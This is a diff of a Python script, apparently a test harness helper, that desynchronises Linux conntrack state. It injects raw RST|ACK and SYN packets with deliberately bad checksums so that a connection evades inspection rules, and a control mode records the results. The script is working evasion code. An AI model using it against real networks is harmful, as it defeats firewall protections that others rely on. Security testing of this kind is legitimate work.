@@ -10,51 +10,21 @@ fall to the learned set's rule and pass by address, unread.
 Usage: ct_resync_attacker.py ADDR PORT HOST MODE   (MODE: none = the control, rst_syn = the attack)
 Prints READY, then one JSON line: "answer" holds what the server answered (HTTP: its response;
 TLS on 8443: its answer to b"sni?"), "error" what failed."""
-import json, socket, struct, sys, time
+import json, socket, sys
+from rawtcp import sniffer, synack, tcp
 
 addr, port, host, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
-
-def csum(b):
-    if len(b) % 2: b += b"\0"
-    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
-    while s >> 16: s = (s & 0xffff) + (s >> 16)
-    return (~s) & 0xffff
-
 V6 = ":" in addr
-def tcp(src, dst, sport, dport, seq, ack, flags, good=False, win=64240):
-    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, win, 0, 0)
-    if V6:
-        ph = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!IxxxB", len(h), 6)
-    else:
-        ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(h))
-    c = csum(ph + h)
-    if not good: c ^= 0x5a5a
-    return h[:16] + struct.pack("!H", c) + h[18:]
 
-pk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86dd if ":" in addr else 0x0800))
-pk.bind(("eth0", 0))
-pk.settimeout(2.0)
+pk = sniffer(V6)
 print("READY", flush=True)
 s = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_STREAM)
 s.settimeout(3.0)
 s.connect((addr, port))
 lport = s.getsockname()[1]
 # find the SYN-ACK
-cli_isn1 = srv_isn1 = None
-t0 = time.time()
-while time.time() - t0 < 2:
-    f, _ = pk.recvfrom(65535)
-    ip = f[14:]
-    if V6:
-        if ip[6] != 6: continue
-        t = ip[40:]
-    else:
-        if ip[9] != 6: continue
-        t = ip[(ip[0] & 15) * 4:]
-    sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", t[:14])
-    if sp == port and dp == lport and (fl & 0x12) == 0x12:
-        srv_isn1, cli_isn1 = (seq + 1) & 0xffffffff, ack
-        break
+got = synack(pk, V6, port, lport)
+srv_isn1, cli_isn1 = ((got[0] + 1) & 0xffffffff, got[1]) if got else (None, None)
 res = {"lport": lport, "cli": cli_isn1, "srv": srv_isn1}
 if cli_isn1 is None:
     print(json.dumps({**res, "err": "no synack"})); sys.exit(0)
@@ -65,9 +35,9 @@ src = s.getsockname()[0]
 # Conntrack takes each raw segment in the sendto() that writes it (its OUTPUT hook runs before
 # any queue), so the entry is closed, then new, before the socket's next segment: no waiting.
 if mode in ("rst_syn", "rst_only"):
-    raw.sendto(tcp(src, addr, lport, port, cli_next, srv_next, 0x14), (addr, 0))  # RST|ACK, bad csum
+    raw.sendto(tcp(src, addr, lport, port, cli_next, srv_next, 0x14, good=False), (addr, 0))  # RST|ACK, bad csum
 if mode in ("rst_syn", "syn_only"):
-    raw.sendto(tcp(src, addr, lport, port, (cli_next + 100000) & 0xffffffff, 0, 0x02), (addr, 0))  # SYN, bad csum
+    raw.sendto(tcp(src, addr, lport, port, (cli_next + 100000) & 0xffffffff, 0, 0x02, good=False), (addr, 0))  # SYN, bad csum
 if port == 8443:
     import ssl
     ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
